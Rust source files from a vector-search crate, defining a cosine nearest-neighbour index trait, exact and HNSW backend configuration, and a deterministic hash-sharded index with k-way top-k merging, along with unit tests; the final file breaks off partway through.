/// and clamp `k` to the candidate count. `Send + Sync` so fitted
/// detectors holding a boxed index can be scored from the engine's
/// parallel fan-out.
pub trait VectorIndex: Send + Sync + std::fmt::Debug {
    /// Number of indexed candidates.
    fn len(&self) -> usize;

    /// Whether the index holds no candidates.
    fn is_empty(&self) -> bool {
        self.len() == 0
    }

    /// Embedding dimensionality.
    fn dim(&self) -> usize;

    /// Up to `min(k, len)` candidates most cosine-similar to `query`,
    /// sorted by descending similarity. The exact backend always
    /// returns exactly `min(k, len)`; approximate backends may return
    /// fewer when part of the graph is unreachable from the entry
    /// point.
    ///
    /// # Panics
    ///
    /// Panics if `query.len() != self.dim()`.
    fn query(&self, query: &[f32], k: usize) -> Vec<Neighbor>;

    /// [`VectorIndex::query`] for every row of `queries`, in row
    /// order. Backends fan large batches out across threads (see
    /// [`query_rows_parallel`]).
    fn query_batch(&self, queries: &Matrix, k: usize) -> Vec<Vec<Neighbor>> {
        query_rows_parallel(self, queries, k)
    }

    /// Adds one candidate to the live index, returning its id (ids are
    /// dense: the new id is the previous [`VectorIndex::len`]). The
    /// exact backend appends a row + norm; HNSW wires the node into the
    /// graph through the construction path — this is what lets a
    /// serving process absorb supervision as it arrives instead of
    /// rebuilding.
    ///
    /// # Panics
    ///
    /// Panics if `row.len() != self.dim()` on a non-empty index.
    fn insert(&mut self, row: &[f32]) -> usize;

    /// Concrete-type escape hatch for persistence
    /// ([`persist::IndexSnapshot::capture`] downcasts to the backend
    /// it knows how to serialize).
    fn as_any(&self) -> &dyn std::any::Any;
}

/// The total order every backend ranks neighbours by: similarity
/// descending, then id ascending. It is exactly the order the
/// historical stable descending sort produced (stable ⇒ ties keep
/// ascending row order), which is what keeps the exact backend — and
/// any merge of exact partitions — bit-identical to the pre-index
/// detectors.
pub fn neighbour_cmp(a: &Neighbor, b: &Neighbor) -> std::cmp::Ordering {
    b.similarity
        .partial_cmp(&a.similarity)
        .unwrap_or(std::cmp::Ordering::Equal)
        .then_with(|| a.id.cmp(&b.id))
}

/// Minimum query rows each batch worker should own: batches smaller
/// than two workers' worth run inline rather than paying thread
/// spawns.
const MIN_ROWS_PER_WORKER: usize = 16;

/// Shared batch-query harness: chunks `queries` by rows and runs
/// [`VectorIndex::query`] per row, fanning chunks out over the
/// crossbeam `scope` shim when the batch is large enough to amortize
/// thread spawns. Output order matches query row order exactly.
pub fn query_rows_parallel<I: VectorIndex + ?Sized>(
    index: &I,
    queries: &Matrix,
    k: usize,
) -> Vec<Vec<Neighbor>> {
    let n = queries.rows();
    let mut out: Vec<Vec<Neighbor>> = Vec::with_capacity(n);
    out.resize_with(n, Vec::new);
    let threads = std::thread::available_parallelism()
        .map(|t| t.get())
        .unwrap_or(1);
    let chunk = n.div_ceil(threads).max(MIN_ROWS_PER_WORKER);
    if n < 2 * MIN_ROWS_PER_WORKER || n <= chunk {
        for (r, slot) in out.iter_mut().enumerate() {
            *slot = index.query(queries.row(r), k);
        }
        return out;
    }
    crossbeam::scope(|scope| {
        for (ci, slice) in out.chunks_mut(chunk).enumerate() {
            let start = ci * chunk;
            scope.spawn(move |_| {
                for (i, slot) in slice.iter_mut().enumerate() {
                    *slot = index.query(queries.row(start + i), k);
                }
            });
        }
    })
    .expect("index batch-query worker panicked");
    out
}

/// Which [`VectorIndex`] backend to build over a candidate matrix.
///
/// `Exact` is the default everywhere: it reproduces the paper's
/// brute-force scores bit-for-bit. `Hnsw` trades exactness for
/// sublinear queries; see [`HnswParams`] for the knobs. `Sharded`
/// partitions either backend across N sub-indexes behind a seeded
/// content-stable hash ([`ShardedIndex`]) — sharded-exact stays
/// bit-identical to `Exact`.
#[derive(Debug, Clone, Copy, PartialEq, Default)]
pub enum IndexConfig {
    /// Brute-force scan; bit-identical to the historical detectors.
    #[default]
    Exact,
    /// Approximate HNSW graph search with the given parameters.
    Hnsw(HnswParams),
    /// A deterministic partition of N backends (see [`ShardedIndex`]).
    Sharded(ShardedParams),
}

impl IndexConfig {
    /// The HNSW backend with default parameters.
    pub fn hnsw() -> Self {
        IndexConfig::Hnsw(HnswParams::default())
    }

    /// This backend partitioned across `shards` sub-indexes (the
    /// `--shards` CLI knob). `shards <= 1` unwraps back to the plain
    /// backend, so `config.with_shards(1)` is always the unsharded
    /// config.
    pub fn with_shards(self, shards: usize) -> Self {
        let (backend, seed) = match self {
            IndexConfig::Exact => (ShardBackend::Exact, DEFAULT_SHARD_SEED),
            IndexConfig::Hnsw(p) => (ShardBackend::Hnsw(p), DEFAULT_SHARD_SEED),
            IndexConfig::Sharded(p) => (p.backend, p.seed),
        };
        if shards <= 1 {
            return backend.config();
        }
        IndexConfig::Sharded(ShardedParams {
            shards,
            seed,
            backend,
        })
    }

    /// How many partitions this config builds (1 for the unsharded
    /// backends).
    pub fn shards(&self) -> usize {
        match self {
            IndexConfig::Sharded(p) => p.shards,
            _ => 1,
        }
    }

    /// Builds the configured backend over `data`, deriving candidate
    /// norms from the matrix.
    pub fn build(self, data: Matrix) -> Box<dyn VectorIndex> {
        let norms = linalg::ops::row_norms(&data);
        self.build_with_norms(data, norms)
    }

    /// Builds the configured backend over `data` with candidate norms
    /// the caller already holds (e.g. memoized on an embedding view),
    /// skipping the re-derivation.
    ///
    /// # Panics
    ///
    /// Panics if `norms.len() != data.rows()`.
    pub fn build_with_norms(self, data: Matrix, norms: Vec<f32>) -> Box<dyn VectorIndex> {
        match self {
            IndexConfig::Exact => Box::new(ExactIndex::build_with_norms(data, norms)),
            IndexConfig::Hnsw(params) => Box::new(HnswIndex::build_with_norms(data, norms, params)),
            IndexConfig::Sharded(params) => {
                Box::new(ShardedIndex::build_with_norms(data, norms, params))
            }
        }
    }

    /// Short stable name for reporting (`"exact"` / `"hnsw"` /
    /// `"sharded-exact"` / `"sharded-hnsw"`).
    pub fn name(&self) -> &'static str {
        match self {
            IndexConfig::Exact => "exact",
            IndexConfig::Hnsw(_) => "hnsw",
            IndexConfig::Sharded(p) => match p.backend {
                ShardBackend::Exact => "sharded-exact",
                ShardBackend::Hnsw(_) => "sharded-hnsw",
            },
        }
    }
}

impl std::str::FromStr for IndexConfig {
    type Err = String;

    /// Parses the CLI spelling: `exact` or `hnsw` (default
    /// parameters).
    fn from_str(s: &str) -> Result<Self, Self::Err> {
        match s {
            "exact" => Ok(IndexConfig::Exact),
            "hnsw" => Ok(IndexConfig::hnsw()),
            other => Err(format!("unknown index backend {other:?} (exact|hnsw)")),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use linalg::rng::randn;
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    #[test]
    fn config_builds_both_backends() {
        let mut rng = StdRng::seed_from_u64(3);
        let data = randn(&mut rng, 40, 8, 1.0);
        let q = data.row(7).to_vec();
        for config in [IndexConfig::Exact, IndexConfig::hnsw()] {
            let idx = config.build(data.clone());
            assert_eq!(idx.len(), 40);
            assert_eq!(idx.dim(), 8);
            let top = idx.query(&q, 1);
            assert_eq!(
                top[0].id,
                7,
                "{}: self-query must return itself",
                config.name()
            );
            assert!((top[0].similarity - 1.0).abs() < 1e-5);
        }
    }

    #[test]
    fn config_parses_from_cli_spelling() {
        assert_eq!("exact".parse::<IndexConfig>().unwrap(), IndexConfig::Exact);
        assert_eq!("hnsw".parse::<IndexConfig>().unwrap(), IndexConfig::hnsw());
        assert!("annoy".parse::<IndexConfig>().is_err());
    }

    #[test]
    fn with_shards_wraps_and_unwraps_backends() {
        let sharded = IndexConfig::Exact.with_shards(4);
        assert_eq!(sharded.shards(), 4);
        assert_eq!(sharded.name(), "sharded-exact");
        // shards <= 1 unwraps back to the plain backend.
        assert_eq!(sharded.with_shards(1), IndexConfig::Exact);
        let hnsw = IndexConfig::hnsw().with_shards(3);
        assert_eq!(hnsw.name(), "sharded-hnsw");
        assert_eq!(hnsw.with_shards(0), IndexConfig::hnsw());
        // Re-wrapping keeps the backend and changes the count.
        assert_eq!(hnsw.with_shards(5).shards(), 5);

        let mut rng = StdRng::seed_from_u64(5);
        let data = randn(&mut rng, 30, 6, 1.0);
        let idx = sharded.build(data.clone());
        let exact = IndexConfig::Exact.build(data.clone());
        assert_eq!(idx.len(), 30);
        assert_eq!(idx.query(data.row(3), 2), exact.query(data.row(3), 2));
    }

    #[test]
    fn batch_matches_sequential_across_the_parallel_threshold() {
        let mut rng = StdRng::seed_from_u64(4);
        let data = randn(&mut rng, 100, 6, 1.0);
        // Enough query rows to trigger the threaded path on any core count.
        let queries = randn(&mut rng, 700, 6, 1.0);
        let idx = ExactIndex::build(data);
        let batched = idx.query_batch(&queries, 3);
        assert_eq!(batched.len(), 700);
        for r in (0..700).step_by(97) {
            assert_eq!(batched[r], idx.query(queries.row(r), 3));
        }
    }
}
