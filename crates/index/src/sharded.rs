//! A deterministic partition of N [`VectorIndex`] backends behind one
//! `VectorIndex` face — the index-layer half of the shard-aware
//! scoring stack.
//!
//! Rows are assigned to shards by a **seeded, content-stable hash** of
//! the row itself ([`shard_for_row`]): the same embedding lands on the
//! same shard whatever order rows arrive in, whichever process hashes
//! it. That is what lets a serving-layer router (`serve::ShardRouter`)
//! route live `append`s to the owning shard with nothing but the seed,
//! and what makes `build(all rows)` equal `build(prefix) + insert(rest)`
//! shard for shard.
//!
//! Queries fan out to every shard — in parallel over crossbeam-scoped
//! threads when the index is big enough to amortize the spawns — and
//! the per-shard top-k lists are k-way merged under the same
//! `(similarity desc, id asc)` total order the exact scan sorts by.
//! Because every shard of an exact-backed partition returns *its* true
//! top-k with bit-identical similarities, the merged result is
//! **bit-identical to the unsharded [`ExactIndex`]**, ids included
//! (pinned by `tests/sharded.rs` and end-to-end by the serve-layer
//! parity suites). HNSW-backed shards stay approximate, but each shard
//! searches a graph 1/N the size — a narrower beam per shard buys the
//! same recall, and a multi-core host runs the N beams concurrently
//! (`benches/shard_scale.rs`). Exact-backed shards inherit the
//! blocked/SIMD scan kernels through [`ExactIndex::query_batch`], so
//! the fan-out keeps the tiled per-shard throughput.
//!
//! Ids are **global**: the sharded index numbers candidates densely in
//! insertion order across shards (exactly as the unsharded backends
//! do) and keeps a per-shard local→global map, so callers that key
//! side tables by id (vanilla kNN's labels) work unchanged.

use crate::{neighbour_cmp, HnswParams, IndexConfig, Neighbor, VectorIndex};
use linalg::ops::row_norms;
use linalg::quant::Quantization;
use linalg::Matrix;

/// Default seed for the shard partitioner (any fixed value works; it
/// only has to be shared by everyone routing rows to the same
/// partition).
pub const DEFAULT_SHARD_SEED: u64 = 0x51AB_D5EE;

/// Which backend each shard of a [`ShardedIndex`] builds.
#[derive(Debug, Clone, Copy, PartialEq)]
pub enum ShardBackend {
    /// Exact brute-force shards: the merged result is bit-identical to
    /// the unsharded [`ExactIndex`](crate::ExactIndex).
    Exact,
    /// Approximate HNSW shards with the given parameters (each shard
    /// owns an independent graph over 1/N of the rows).
    Hnsw(HnswParams),
}

impl ShardBackend {
    /// The unsharded (f32) [`IndexConfig`] a single shard builds with;
    /// callers layer the partition's storage format on with
    /// [`IndexConfig::with_quant`].
    pub fn config(self) -> IndexConfig {
        match self {
            ShardBackend::Exact => IndexConfig::Exact,
            ShardBackend::Hnsw(params) => IndexConfig::hnsw_with(params),
        }
    }

    /// Short stable name (`"exact"` / `"hnsw"`).
    pub fn name(&self) -> &'static str {
        match self {
            ShardBackend::Exact => "exact",
            ShardBackend::Hnsw(_) => "hnsw",
        }
    }
}

/// Shape of a [`ShardedIndex`]: how many shards, the partitioner seed,
/// and the per-shard backend.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct ShardedParams {
    /// Number of partitions (≥ 1).
    pub shards: usize,
    /// Seed of the content-stable row partitioner.
    pub seed: u64,
    /// Backend each shard builds.
    pub backend: ShardBackend,
}

impl ShardedParams {
    /// `shards` exact partitions under the default seed.
    pub fn exact(shards: usize) -> Self {
        ShardedParams {
            shards: shards.max(1),
            seed: DEFAULT_SHARD_SEED,
            backend: ShardBackend::Exact,
        }
    }

    /// `shards` HNSW partitions under the default seed.
    pub fn hnsw(shards: usize, params: HnswParams) -> Self {
        ShardedParams {
            shards: shards.max(1),
            seed: DEFAULT_SHARD_SEED,
            backend: ShardBackend::Hnsw(params),
        }
    }
}

/// The shard owning `row` under `seed` with `shards` partitions:
/// FNV-1a over the row's f32 bit patterns. Stable across processes,
/// platforms, and insertion orders — the whole point: every layer that
/// knows `(seed, shards)` agrees on ownership without coordination.
pub fn shard_for_row(seed: u64, shards: usize, row: &[f32]) -> usize {
    debug_assert!(shards >= 1, "partitioner needs at least one shard");
    let mut h = seed ^ 0xcbf2_9ce4_8422_2325;
    for &v in row {
        h ^= v.to_bits() as u64;
        h = h.wrapping_mul(0x0000_0100_0000_01B3);
    }
    (h % shards as u64) as usize
}

/// Per-query work (candidate rows × query rows) below which the shard
/// fan-out runs inline: spawning threads for toy indexes costs more
/// than the scan it parallelizes.
const MIN_PARALLEL_WORK: usize = 4096;

/// A deterministic partition of N backends behind the [`VectorIndex`]
/// trait. See the module docs for the contract.
#[derive(Debug)]
pub struct ShardedIndex {
    shards: Vec<Box<dyn VectorIndex>>,
    /// `globals[s][local] = global id` — ascending in `local`, densely
    /// covering `0..len` across shards.
    globals: Vec<Vec<usize>>,
    params: ShardedParams,
    /// Candidate storage format every shard was built with (each shard
    /// quantizes its own rows; per-row i8 scales make the partition
    /// bit-identical to quantizing the whole matrix row by row).
    quant: Quantization,
    dim: usize,
    total: usize,
}

impl ShardedIndex {
    /// Partitions `data` and builds one f32 backend per shard,
    /// deriving candidate norms.
    pub fn build(data: Matrix, params: ShardedParams) -> Self {
        let norms = row_norms(&data);
        Self::build_with_norms(data, norms, params)
    }

    /// [`ShardedIndex::build`] with norms the caller already holds.
    ///
    /// # Panics
    ///
    /// Panics if `norms.len() != data.rows()` or `params.shards == 0`.
    pub fn build_with_norms(data: Matrix, norms: Vec<f32>, params: ShardedParams) -> Self {
        Self::build_quantized(data, norms, params, Quantization::F32)
    }

    /// [`ShardedIndex::build_with_norms`] with every shard storing its
    /// candidates in the chosen format (norms stay the original f32
    /// norms). Rows are partitioned by their **f32 content** before
    /// quantization, so the shard a row lands on never depends on the
    /// storage format — quantization can roll out shard by shard
    /// without moving anything.
    ///
    /// # Panics
    ///
    /// Panics if `norms.len() != data.rows()` or `params.shards == 0`.
    pub fn build_quantized(
        data: Matrix,
        norms: Vec<f32>,
        params: ShardedParams,
        quant: Quantization,
    ) -> Self {
        assert_eq!(norms.len(), data.rows(), "one norm per candidate row");
        assert!(params.shards >= 1, "sharded index needs at least 1 shard");
        let n = params.shards;
        let dim = data.cols();
        let mut globals: Vec<Vec<usize>> = vec![Vec::new(); n];
        for r in 0..data.rows() {
            let s = shard_for_row(params.seed, n, data.row(r));
            globals[s].push(r);
        }
        let shards = globals
            .iter()
            .map(|rows| {
                let mut sub = Matrix::zeros(0, dim);
                let mut sub_norms = Vec::with_capacity(rows.len());
                for &g in rows {
                    sub.push_row(data.row(g));
                    sub_norms.push(norms[g]);
                }
                params
                    .backend
                    .config()
                    .with_quant(quant)
                    .build_with_norms(sub, sub_norms)
            })
            .collect();
        ShardedIndex {
            shards,
            globals,
            params,
            quant,
            dim,
            total: data.rows(),
        }
    }

    /// Reassembles a sharded index from already-built shards and their
    /// global-id maps (the persistence restore path — no construction
    /// runs). `quant` is the partition's storage format; shards must
    /// already hold it (empty shards excepted — an empty frame carries
    /// its format, but a later insert adopts this one's).
    ///
    /// # Panics
    ///
    /// Panics if the shard count disagrees with `params.shards`, a map
    /// length disagrees with its shard's row count, or the maps do not
    /// form a dense ascending-per-shard id cover.
    pub fn from_parts(
        shards: Vec<Box<dyn VectorIndex>>,
        globals: Vec<Vec<usize>>,
        params: ShardedParams,
        quant: Quantization,
        dim: usize,
    ) -> Self {
        assert_eq!(shards.len(), params.shards, "one backend per shard");
        assert_eq!(globals.len(), params.shards, "one id map per shard");
        let mut total = 0usize;
        for (shard, map) in shards.iter().zip(&globals) {
            assert_eq!(shard.len(), map.len(), "one global id per shard row");
            assert!(
                map.windows(2).all(|w| w[0] < w[1]),
                "per-shard global ids must ascend"
            );
            total += map.len();
        }
        let mut seen = vec![false; total];
        for map in &globals {
            for &g in map {
                assert!(g < total && !seen[g], "global ids must form a dense cover");
                seen[g] = true;
            }
        }
        ShardedIndex {
            shards,
            globals,
            params,
            quant,
            dim,
            total,
        }
    }

    /// Disassembles the index into its shards, their global-id maps,
    /// and the partition shape (the serving router's split path).
    #[allow(clippy::type_complexity)]
    pub fn into_parts(
        self,
    ) -> (
        Vec<Box<dyn VectorIndex>>,
        Vec<Vec<usize>>,
        ShardedParams,
        usize,
    ) {
        (self.shards, self.globals, self.params, self.dim)
    }

    /// The partition shape.
    pub fn params(&self) -> &ShardedParams {
        &self.params
    }

    /// Number of shards.
    pub fn shard_count(&self) -> usize {
        self.shards.len()
    }

    /// The per-shard backends.
    pub fn shards(&self) -> &[Box<dyn VectorIndex>] {
        &self.shards
    }

    /// The per-shard local→global id maps.
    pub fn globals(&self) -> &[Vec<usize>] {
        &self.globals
    }

    /// Per-shard candidate counts (monitoring / balance checks).
    pub fn shard_lens(&self) -> Vec<usize> {
        self.shards.iter().map(|s| s.len()).collect()
    }

    /// Queries one shard and maps its local ids to global ids.
    fn query_shard(&self, s: usize, query: &[f32], k: usize) -> Vec<Neighbor> {
        let mut out = self.shards[s].query(query, k);
        for n in &mut out {
            n.id = self.globals[s][n.id];
        }
        out
    }

    /// Whether a fan-out over `rows` query rows is worth threads.
    fn parallel_worth_it(&self, rows: usize) -> bool {
        self.shards.len() > 1 && rows * self.total >= MIN_PARALLEL_WORK
    }
}

/// K-way merge of per-shard sorted top-k lists into the global top-k
/// under `cmp`'s order, borrowing every input (the serving hot path
/// calls this per query row — no element may be cloned to satisfy the
/// signature). A cursor-per-shard selection rather than a heap of
/// heaps: shard counts are small, and keeping the comparator explicit
/// is what lets every caller share *the* exact-scan total order.
pub fn merge_sorted_topk<T: Copy>(
    lists: &[&[T]],
    k: usize,
    cmp: impl Fn(&T, &T) -> std::cmp::Ordering,
) -> Vec<T> {
    let mut cursors = vec![0usize; lists.len()];
    let mut out = Vec::with_capacity(k);
    while out.len() < k {
        let mut best: Option<(usize, T)> = None;
        for (s, list) in lists.iter().enumerate() {
            if let Some(&cand) = list.get(cursors[s]) {
                let better = match &best {
                    None => true,
                    Some((_, b)) => cmp(&cand, b) == std::cmp::Ordering::Less,
                };
                if better {
                    best = Some((s, cand));
                }
            }
        }
        match best {
            Some((s, n)) => {
                cursors[s] += 1;
                out.push(n);
            }
            None => break,
        }
    }
    out
}

/// [`merge_sorted_topk`] under the neighbour total order
/// (`(similarity desc, id asc)` — [`neighbour_cmp`]), so merged exact
/// shards are bit-identical to the unsharded scan.
pub fn merge_shard_topk(lists: &[&[Neighbor]], k: usize) -> Vec<Neighbor> {
    merge_sorted_topk(lists, k, neighbour_cmp)
}

impl VectorIndex for ShardedIndex {
    fn len(&self) -> usize {
        self.total
    }

    fn dim(&self) -> usize {
        self.dim
    }

    fn query(&self, query: &[f32], k: usize) -> Vec<Neighbor> {
        assert_eq!(query.len(), self.dim, "query dimensionality mismatch");
        if k == 0 || self.total == 0 {
            return Vec::new();
        }
        let n = self.shards.len();
        let mut per_shard: Vec<Vec<Neighbor>> = Vec::with_capacity(n);
        if self.parallel_worth_it(1) {
            per_shard.resize_with(n, Vec::new);
            crossbeam::scope(|scope| {
                for (s, slot) in per_shard.iter_mut().enumerate() {
                    scope.spawn(move |_| *slot = self.query_shard(s, query, k));
                }
            })
            .expect("shard query worker panicked");
        } else {
            for s in 0..n {
                per_shard.push(self.query_shard(s, query, k));
            }
        }
        let lists: Vec<&[Neighbor]> = per_shard.iter().map(Vec::as_slice).collect();
        merge_shard_topk(&lists, k)
    }

    fn query_batch(&self, queries: &Matrix, k: usize) -> Vec<Vec<Neighbor>> {
        let rows = queries.rows();
        if k == 0 || self.total == 0 {
            return vec![Vec::new(); rows];
        }
        let n = self.shards.len();
        // One batch per shard — each shard may additionally fan its
        // own batch out over query rows (brief oversubscription on
        // small hosts; scheduling absorbs it, as with the engine's
        // detector fan-out).
        let mut per_shard: Vec<Vec<Vec<Neighbor>>> = Vec::with_capacity(n);
        if self.parallel_worth_it(rows) {
            per_shard.resize_with(n, Vec::new);
            crossbeam::scope(|scope| {
                for (s, slot) in per_shard.iter_mut().enumerate() {
                    scope.spawn(move |_| {
                        let mut batch = self.shards[s].query_batch(queries, k);
                        for row in &mut batch {
                            for nb in row.iter_mut() {
                                nb.id = self.globals[s][nb.id];
                            }
                        }
                        *slot = batch;
                    });
                }
            })
            .expect("shard batch worker panicked");
        } else {
            for s in 0..n {
                let mut batch = self.shards[s].query_batch(queries, k);
                for row in &mut batch {
                    for nb in row.iter_mut() {
                        nb.id = self.globals[s][nb.id];
                    }
                }
                per_shard.push(batch);
            }
        }
        (0..rows)
            .map(|r| {
                let lists: Vec<&[Neighbor]> =
                    per_shard.iter().map(|batch| batch[r].as_slice()).collect();
                merge_shard_topk(&lists, k)
            })
            .collect()
    }

    fn insert(&mut self, row: &[f32]) -> usize {
        if self.total > 0 {
            assert_eq!(row.len(), self.dim, "insert dimensionality mismatch");
        } else if self.dim == 0 {
            self.dim = row.len();
        }
        let s = shard_for_row(self.params.seed, self.params.shards, row);
        self.shards[s].insert(row);
        let id = self.total;
        self.globals[s].push(id);
        self.total += 1;
        id
    }

    fn as_any(&self) -> &dyn std::any::Any {
        self
    }

    fn quantization(&self) -> Quantization {
        self.quant
    }

    fn candidate_bytes(&self) -> usize {
        self.shards.iter().map(|s| s.candidate_bytes()).sum()
    }

    fn resident_bytes(&self) -> usize {
        self.shards
            .iter()
            .map(|s| s.resident_bytes())
            .sum::<usize>()
            + self
                .globals
                .iter()
                .map(|g| g.len() * std::mem::size_of::<usize>())
                .sum::<usize>()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::ExactIndex;
    use linalg::rng::randn;
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    #[test]
    fn exact_shards_are_bit_identical_to_the_unsharded_scan() {
        let mut rng = StdRng::seed_from_u64(51);
        let data = randn(&mut rng, 200, 8, 1.0);
        let queries = randn(&mut rng, 40, 8, 1.0);
        let exact = ExactIndex::build(data.clone());
        for shards in [1, 2, 3, 7] {
            let sharded = ShardedIndex::build(data.clone(), ShardedParams::exact(shards));
            assert_eq!(sharded.len(), 200);
            assert_eq!(sharded.dim(), 8);
            for r in 0..queries.rows() {
                for k in [1, 3, 17, 500] {
                    assert_eq!(
                        sharded.query(queries.row(r), k),
                        exact.query(queries.row(r), k),
                        "shards={shards} k={k}"
                    );
                }
            }
            assert_eq!(
                sharded.query_batch(&queries, 5),
                exact.query_batch(&queries, 5)
            );
        }
    }

    #[test]
    fn ties_merge_in_global_id_order() {
        // Duplicate rows hash to the same shard, so force ties across
        // shards with distinct-but-tied directions: scaled copies have
        // identical cosine to any query but different bytes (and so
        // possibly different shards).
        let data = Matrix::from_rows(&[
            &[1.0, 0.0],
            &[2.0, 0.0],
            &[4.0, 0.0],
            &[0.5, 0.0],
            &[0.0, 1.0],
        ]);
        let exact = ExactIndex::build(data.clone());
        let sharded = ShardedIndex::build(data, ShardedParams::exact(3));
        let got = sharded.query(&[3.0, 0.0], 4);
        assert_eq!(got, exact.query(&[3.0, 0.0], 4));
        // All four +x rows tie at similarity 1.0; ids must ascend.
        assert_eq!(
            got.iter().map(|n| n.id).collect::<Vec<_>>(),
            vec![0, 1, 2, 3]
        );
    }

    #[test]
    fn insert_routes_stably_and_matches_build_all_at_once() {
        let mut rng = StdRng::seed_from_u64(52);
        let data = randn(&mut rng, 120, 6, 1.0);
        let queries = randn(&mut rng, 10, 6, 1.0);
        for backend in [
            ShardedParams::exact(4),
            ShardedParams::hnsw(4, HnswParams::default()),
        ] {
            let all = ShardedIndex::build(data.clone(), backend);
            let mut incremental = ShardedIndex::build(data.row_block(0, 70), backend);
            for r in 70..120 {
                assert_eq!(
                    incremental.insert(data.row(r)),
                    r,
                    "{}",
                    backend.backend.name()
                );
            }
            assert_eq!(incremental.globals(), all.globals());
            assert_eq!(incremental.shard_lens(), all.shard_lens());
            for r in 0..queries.rows() {
                assert_eq!(
                    incremental.query(queries.row(r), 3),
                    all.query(queries.row(r), 3),
                    "{}",
                    backend.backend.name()
                );
            }
        }
    }

    #[test]
    fn hnsw_shards_recall_against_exact() {
        let mut rng = StdRng::seed_from_u64(53);
        let centers = randn(&mut rng, 20, 16, 1.0);
        let data = linalg::rng::clustered_around(&mut rng, &centers, 600, 0.15);
        let queries = linalg::rng::clustered_around(&mut rng, &centers, 40, 0.15);
        let exact = ExactIndex::build(data.clone());
        let sharded = ShardedIndex::build(data, ShardedParams::hnsw(4, HnswParams::default()));
        let mut hits = 0;
        for r in 0..queries.rows() {
            let want = exact.query(queries.row(r), 1)[0];
            let got = sharded.query(queries.row(r), 1);
            if !got.is_empty() && got[0].id == want.id {
                hits += 1;
                assert_eq!(got[0].similarity, want.similarity);
            }
        }
        assert!(hits >= 36, "sharded-hnsw recall@1 too low: {hits}/40");
    }

    #[test]
    fn empty_and_tiny_partitions_answer() {
        // 2 rows over 4 shards: at least two shards are empty.
        let data = Matrix::from_rows(&[&[1.0, 0.0], &[0.0, 1.0]]);
        for backend in [
            ShardedParams::exact(4),
            ShardedParams::hnsw(4, HnswParams::default()),
        ] {
            let mut idx = ShardedIndex::build(data.clone(), backend);
            let top = idx.query(&[1.0, 0.0], 5);
            assert_eq!(top.len(), 2);
            assert_eq!(top[0].id, 0);
            let id = idx.insert(&[0.7, 0.7]);
            assert_eq!(id, 2);
            assert_eq!(idx.len(), 3);
            assert_eq!(idx.query(&[0.7, 0.7], 1)[0].id, 2);
        }
    }

    #[test]
    fn zero_rows_and_zero_k_are_fine() {
        let idx = ShardedIndex::build(Matrix::zeros(0, 4), ShardedParams::exact(3));
        assert!(idx.is_empty());
        assert!(idx.query(&[0.0; 4], 3).is_empty());
        let data = Matrix::from_rows(&[&[1.0, 0.0]]);
        let idx = ShardedIndex::build(data, ShardedParams::exact(2));
        assert!(idx.query(&[1.0, 0.0], 0).is_empty());
    }

    #[test]
    fn zero_rows_tie_deterministically_across_shards() {
        // Zero-norm pin at the sharded level: all-zero rows score 0.0
        // in whichever shard they land, and the k-way merge keeps the
        // ties in ascending *global* id order — identical to the
        // unsharded exact scan, in every storage format.
        let data = Matrix::from_rows(&[
            &[0.0, 0.0, 0.0],
            &[1.0, 0.0, 0.0],
            &[0.0, 0.0, 0.0],
            &[0.0, 1.0, 0.0],
            &[0.0, 0.0, 0.0],
        ]);
        let exact = ExactIndex::build(data.clone());
        for quant in [Quantization::F32, Quantization::F16, Quantization::I8] {
            let sharded = ShardedIndex::build_quantized(
                data.clone(),
                row_norms(&data),
                ShardedParams::exact(3),
                quant,
            );
            assert_eq!(sharded.quantization(), quant);
            let got = sharded.query(&[1.0, 0.0, 0.0], 5);
            assert_eq!(got[0].id, 1, "{quant}");
            // The three zero rows — and the orthogonal row — tie at
            // 0.0 behind the matching row; ids must ascend. (Under f32
            // the whole result is bit-identical to the unsharded scan.)
            let zero_ids: Vec<usize> = got
                .iter()
                .filter(|n| n.similarity == 0.0)
                .map(|n| n.id)
                .collect();
            assert_eq!(zero_ids, vec![0, 2, 3, 4], "{quant}");
            if quant == Quantization::F32 {
                assert_eq!(got, exact.query(&[1.0, 0.0, 0.0], 5));
            }
            // Degenerate query: everything ties at 0.0, ids ascend,
            // twice for determinism.
            let z = sharded.query(&[0.0, 0.0, 0.0], 5);
            assert_eq!(z, sharded.query(&[0.0, 0.0, 0.0], 5), "{quant}");
            assert_eq!(
                z.iter().map(|n| n.id).collect::<Vec<_>>(),
                vec![0, 1, 2, 3, 4],
                "{quant}"
            );
        }
    }

    #[test]
    fn quantized_partition_routes_by_f32_content() {
        // The shard a row owns must not depend on the storage format:
        // hashing happens on the original f32 bits, so a quantized
        // partition has the same shard layout as the f32 one.
        let mut rng = StdRng::seed_from_u64(54);
        let data = randn(&mut rng, 80, 6, 1.0);
        let f32_idx = ShardedIndex::build(data.clone(), ShardedParams::exact(4));
        for quant in [Quantization::F16, Quantization::I8] {
            let q_idx = ShardedIndex::build_quantized(
                data.clone(),
                row_norms(&data),
                ShardedParams::exact(4),
                quant,
            );
            assert_eq!(q_idx.globals(), f32_idx.globals(), "{quant}");
            assert_eq!(q_idx.shard_lens(), f32_idx.shard_lens(), "{quant}");
            assert!(q_idx.candidate_bytes() < f32_idx.candidate_bytes());
        }
    }

    #[test]
    fn partitioner_is_stable_and_seed_sensitive() {
        let row = [0.25f32, -1.5, 3.0];
        let a = shard_for_row(7, 8, &row);
        assert_eq!(a, shard_for_row(7, 8, &row));
        // Different seeds must be able to move rows (not a proof, but
        // a canary against a degenerate hash).
        let moved = (0..64).any(|seed| shard_for_row(seed, 8, &row) != a);
        assert!(moved);
    }
}
