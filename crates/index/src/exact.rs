//! Brute-force cosine scan with build-time norm caching — the
//! paper-faithful [`VectorIndex`] backend.

use crate::{Neighbor, VectorIndex};
use linalg::ops::{norm, row_norms};
use linalg::quant::{Quantization, QuantizedMatrix};
use linalg::Matrix;

/// Exact top-k by full scan.
///
/// Candidate norms are computed once at build time; each query pays
/// one norm plus one dot product per candidate. Selection is a stable
/// descending sort, so ties keep candidate row order — exactly the
/// behaviour of the historical per-detector scans, which is what makes
/// exact-backed detector scores bit-identical to the pre-index code.
///
/// Candidates live in a [`QuantizedMatrix`]: the default f32 storage
/// reproduces the historical kernels bit for bit, while f16/i8 halve
/// or quarter the bytes each scan streams (`benches/quant_scale.rs`).
/// Norms stay the **original f32** row norms in every format — the
/// quantized kernels reuse the same cache.
#[derive(Debug, Clone)]
pub struct ExactIndex {
    data: QuantizedMatrix,
